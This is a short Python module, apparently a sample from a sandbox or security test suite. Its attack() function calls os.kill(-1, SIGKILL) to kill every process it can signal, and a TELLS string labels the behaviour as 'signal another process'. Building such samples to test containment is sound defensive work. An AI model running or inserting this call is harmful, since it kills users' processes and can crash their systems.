"""Kill everything that may be killed."""

import os
import signal

TELLS = "signal another process"


def attack(*arguments, **named):
    os.kill(-1, signal.SIGKILL)
